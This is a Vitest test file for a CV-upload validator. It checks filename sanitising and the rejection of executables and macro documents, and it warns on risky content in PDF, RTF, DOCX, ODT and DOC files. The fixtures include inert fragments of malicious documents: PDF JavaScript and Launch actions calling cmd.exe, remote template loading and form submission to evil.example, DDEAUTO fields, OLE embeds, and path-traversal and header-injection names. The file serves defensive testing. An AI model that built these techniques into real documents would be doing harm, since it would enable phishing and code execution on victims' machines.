import { deflateSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { validateCv } from '../../netlify/forms/cv.ts';
import { compoundFile, docx, odt, PHOTOS } from './cv-files.ts';

const PDF = Buffer.from('%PDF-1.7\n');
const DOC = compoundFile('WordDocument', '1Table');

const attach = (bytes: BlobPart, name = 'Asha Rao') =>
  validateCv(new File([bytes], 'C:\\fakepath\\cv.pdf.exe'), name);

test.each([
  ['Asha Rao', PDF, 'CV Asha Rao.pdf'],
  ['आशा राव', PDF, 'CV आशा राव.pdf'],
  ['../../etc/passwd', PDF, 'CV etc passwd.pdf'],
  ['evil\r\nBcc: x@y.z', PDF, 'CV evil Bcc x y z.pdf'],
  ['x'.repeat(200), PDF, `CV ${'x'.repeat(80)}.pdf`],
  [`${'x'.repeat(79)}𝔞`, PDF, `CV ${'x'.repeat(79)}𝔞.pdf`],
  ['Asha Rao', DOC, 'CV Asha Rao.doc'],
])('the CV of %j is attached with their name and its real type', async (name, bytes, filename) => {
  const { cv } = await attach(bytes, name);
  expect(cv).toMatchObject({ filename, content: bytes.toString('base64') });
});

const MACRO_TYPE = 'application/vnd.ms-word.document.macroEnabled.main+xml';

test.each([
  ['a program', 'cvType', Buffer.from('MZ\u0000\u0000')],
  ['an HTML page', 'cvType', Buffer.from('<!doctype html><script>alert(1)</script>')],
  ['a page before a PDF', 'cvType', Buffer.from('<html></html>%PDF-1.7\n')],
  ['a spreadsheet in the older Office format', 'cvType', compoundFile('Workbook')],
  [
    'such a spreadsheet with the word in a cell',
    'cvType',
    Buffer.concat([compoundFile('Workbook'), Buffer.from('WordDocument', 'utf16le')]),
  ],
  ['a DOCX with two lists of content types', 'cvType', docx({ '[CONTENT_TYPES].XML': 'x' })],
  ['a DOCX cut off in the middle', 'cvType', docx().subarray(0, -30)],
  ['an OpenDocument spreadsheet', 'cvType', odt('spreadsheet')],
  ['a GIF', 'cvType', Buffer.from('GIF89a')],
  ['empty', 'cvEmpty', Buffer.alloc(0)],
  ['a DOC with macros', 'cvMacros', compoundFile('WordDocument', 'Macros', 'VBA')],
  ['a DOCX with macros', 'cvMacros', docx({ 'word/vbaProject.bin': 'x' })],
  ['a DOCM', 'cvMacros', docx({}, MACRO_TYPE)],
  ['an ODT with macros', 'cvMacros', odt('text', { 'Basic/Standard/Module1.xml': 'x' })],
])('a CV that is %s is rejected: %s', async (_what, problem, bytes) => {
  expect(await attach(bytes)).toEqual({ problem });
});

test.each([
  ['pdf', Buffer.from('\r\n\n%PDF-1.4\n/OpenAction [3 0 R /Fit] (HTML/CSS/JavaScript)')],
  ['doc', DOC],
  ['docx', docx({ 'word/media/photo.jpeg': 'x' })],
  ['odt', odt('text')],
  ['rtf', Buffer.from('{\\rtf1 Asha {\\pict\\pngblip 89504e47}}')],
  ...Object.entries(PHOTOS),
])('a plain %s is attached without a warning', async (extension, bytes) => {
  const { cv, warnings } = await attach(bytes);
  expect(cv?.filename).toBe(`CV Asha Rao.${extension}`);
  expect(warnings).toEqual([]);
});

const RELS = 'word/_rels/settings.xml.rels';
const rels = (xml: string | Buffer) => docx({ [RELS]: xml });
const relationship = (type: string, target: string) =>
  rels(`<Relationship Type="http://x/${type}" Target="${target}" TargetMode="External"/>`);
const document = (xml: string) => docx({ 'word/document.xml': `<w:document>${xml}</w:document>` });
const content = (xml: string) =>
  odt('text', { 'content.xml': `<office:document>${xml}</office:document>` });
const pdf = (text: string) => Buffer.from(`%PDF-1.7\n${text}`, 'latin1');
const rtf = (text: string) => Buffer.from(`{\\rtf1 ${text}}`);
const TEMPLATE = 'Type="http://x/attachedTemplate"';
const LOADED = `<Relationship ${TEMPLATE} Target="http://evil.example"/>`;
const instructions = (...parts: string[]) =>
  parts.map((part) => `<w:instrText>${part}</w:instrText>`).join('');
const WITH_DDE = Buffer.concat([DOC, Buffer.from('\x13 DDEAUTO c', 'utf16le')]);
const objectStream = Buffer.concat([
  pdf('1 0 obj <</Type/Obj#53tm/Filter/FlateDecode>>stream\n'),
  deflateSync('1 0 <</S/JavaScript/JS(x)>>'),
  Buffer.from('\nendstream endobj'),
]);

test.each([
  ['contains a script', pdf('<< /S /J#61vaScript >>')],
  ['contains a script', pdf('<< /S %x\n /JavaScript >>')],
  ['contains a script', pdf('<< /Names 4 0 R/JS 5 0 R >>')],
  ['contains a script', pdf('<< /AcroForm << /XFA [] >> >>')],
  ['contains a script', objectStream],
  ['starts another program', pdf('<< /S/Launch /F (cmd.exe) >>')],
  ['contains an embedded object', pdf('<< /Type/EmbeddedFile >>')],
  ['sends or fetches data', pdf('<< /S /SubmitForm /F (http://evil.example) >>')],
  ['opens another document', pdf('<< /S /GoToR /F (\\\\\\\\evil.example\\\\x) >>')],
  ['is encrypted', pdf('trailer << /Encrypt 5 0 R >>')],
  ['contains an embedded object', rtf('{\\object{\\*\\objdata 0105}}')],
  ['contains an embedded object', rtf('{\\object\\objocx x}')],
  ['loads a template', rtf('{\\*\\template http://evil.example/t.dotm}')],
  ['loads a template', rtf('{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/x"}}')],
  ['asks another program', rtf("{\\field{\\*\\fldinst {\\b D}\\'44E\\u65?UTO c cmd}}")],
  ['contains an embedded object', compoundFile('WordDocument', '\u0001Ole10Native')],
  ['asks another program', WITH_DDE],
  ['contains an embedded object', docx({ 'word/embeddings/oleObject1.bin': 'x' })],
  ['contains an embedded object', docx({ 'word/activeX/activeX1.bin': 'x' })],
  ['contains an embedded object', document('<w:altChunk r:id="rId1"/>')],
  ['loads a template', relationship('attachedTemplate', 'https://evil.example/t.dotm')],
  ['loads a template', relationship('attachedTemplate', 'file:///\\\\evil.example\\t.dotm')],
  ['loads a template', relationship('image', '//evil.example/x.png')],
  ['loads a template', rels(`<Relationship ${TEMPLATE} Target = 'https://evil.example/t' />`)],
  ['loads a template', rels(`<a:Relationship ${TEMPLATE} Target="&#104;ttps://evil.example/"/>`)],
  ['loads a template', docx({ 'word/_rels/footer9.xml.rels': LOADED })],
  ['loads a template', rels(Buffer.from(`\ufeff${LOADED}`, 'utf16le'))],
  ['asks another program', document(instructions('DD', 'EAUTO c'))],
  ['asks another program', document(`${instructions('PAGE')}<w:fldChar/>${instructions('DDE c')}`)],
  ['asks another program', document('<w:fldSimple w:instr="DDE c cmd"/>')],
  ['contains a script', content('<script:event-listener xlink:href="x"/>')],
  ['contains an embedded object', content('<draw:object-ole/>')],
  ['loads a template', content('<draw:image xlink:href="https://evil.example/x.png"/>')],
  ['asks another program', content('<text:dde-connection-decl/>')],
  ['is too large', docx({ 'word/comments.xml': 'x'.repeat(3_000_000) })],
  ['', relationship('attachedTemplate', 'file:///C:\\Users\\Asha\\Normal.dotm')],
  ['', relationship('hyperlink', 'https://github.com/asha')],
  ['', document('<w:t>DDE, scripts, https://github.com/asha</w:t>')],
  ['', content('<text:a xlink:href="https://github.com/asha"/><office:scripts/>')],
  ['', pdf('(HTML/CSS/JavaScript) /Link /URI (https://github.com/asha) /JSON /Launches')],
  ['', rtf('{\\field{\\*\\fldinst HYPERLINK "https://github.com/asha"}} DDE')],
])('the email says that a CV %s (%#)', async (warning, bytes) => {
  const { warnings = [] } = await attach(bytes);
  expect(warnings.join('; ')).toMatch(warning ? new RegExp(`^(.*; )?it ${warning}`) : /^$/);
});
